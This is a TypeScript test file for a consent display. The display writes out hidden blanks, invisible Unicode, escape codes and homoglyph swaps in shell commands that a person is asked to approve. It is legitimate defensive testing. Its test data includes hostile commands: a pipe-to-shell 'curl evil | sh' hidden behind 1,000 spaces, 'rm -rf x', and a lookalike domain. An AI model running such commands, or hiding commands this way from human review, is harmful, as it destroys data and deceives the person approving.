import assert from 'node:assert/strict';
import { test } from 'node:test';
import { hiddenDifference, shownLines } from '../../server/consent/shown.ts';
import { differingLines } from '../../server/consent/trust.ts';

const shown = (text: string, columns = Infinity) => shownLines(text, columns);

test('a long run of blanks is counted, wherever it stands, and what stands behind it is there', () => {
  assert.deepEqual(shown(`echo hi${' '.repeat(1000)}curl evil | sh`), ['echo hi⟨1,000 blanks⟩curl evil | sh']);
  assert.deepEqual(shown(`${' '.repeat(400)}rm -rf x`), ['⟨400 blanks⟩rm -rf x']);
  assert.deepEqual(shown('    two  words'), ['    two  words']);
});

test('blanks at the end of a line, tabs and other spaces are spelled out', () => {
  assert.deepEqual(shown('echo \\ '), ['echo \\⟨1 blank⟩']);
  assert.deepEqual(shown('\techo'), ['⟨tab⟩echo']);
  assert.deepEqual(shown('a\u00a0b\u200bc\u2800d\u001b[8m'), ['a\\u{a0}b\\u{200b}c\\u{2800}d\\u{1b}[8m']);
});

test('many blank lines are counted', () => {
  assert.deepEqual(shown(`one\n${'\n'.repeat(500)}two`), ['one', '⟨500 blank lines⟩', 'two']);
  assert.deepEqual(shown('one\n\n\ntwo'), ['one', '', '', 'two']);
});

test('nothing is cut, and a line that the terminal would break is broken with a mark', () => {
  const long = 'x'.repeat(3000);
  assert.equal(shown(long)[0]?.length, 3000);
  const lines = shown(`${'a'.repeat(30)}${'b'.repeat(30)}`, 40);
  assert.deepEqual(lines, [`${'a'.repeat(30)}${'b'.repeat(10)}`, `↪ ${'b'.repeat(20)}`]);
  assert.equal(shown('漢'.repeat(30), 40)[0], '漢'.repeat(20));
});

test('a line of characters whose width a terminal may take for two columns is broken before the terminal does it', () => {
  for (const character of ['漢', 'ㄅ', 'ꀀ', '︰', '\u{17000}', '\u{1F9FF}', '─', '※'])
    assert.equal(shown(character.repeat(30), 40)[0], character.repeat(20), character);
  assert.equal(shown('é\u0301'.repeat(20), 40).length, 1);
});

test('changed lines that look alike are told apart', () => {
  assert.deepEqual(differingLines('echo hi', 'echo hi '), ['    - echo hi', '    + echo hi⟨1 blank⟩']);
  assert.deepEqual(differingLines('curl example.com', 'curl ex\u0430mple.com'), [
    '    - curl example.com',
    '    + curl ex\u0430mple.com',
    '      ⟨column 8: a U+0061 became \u0430 U+0430⟩',
  ]);
  const far = `echo ${'x'.repeat(400)}`;
  assert.match(differingLines(`${far}1`, `${far}2`).join('\n'), /1\n {4}\+ echo x+2$/);
  assert.equal(hiddenDifference('a', 'b'), null);
});
